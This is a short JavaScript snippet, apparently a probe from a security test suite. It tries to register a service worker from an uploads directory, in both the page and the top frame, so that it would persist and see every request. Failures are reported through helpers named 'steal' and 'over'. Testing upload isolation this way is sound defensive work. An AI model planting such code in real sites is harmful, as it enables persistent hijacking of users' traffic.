// Tries: register a service worker, which would outlive the visit and see every request.
(async () => {
  for (const view of [window, top]) {
    try {
      await view.navigator.serviceWorker.register("/uploads/worker.js", { scope: "/uploads/" });
    } catch (error) {
      steal("register-worker", String(error));
    }
  }
  over("register-worker");
})();
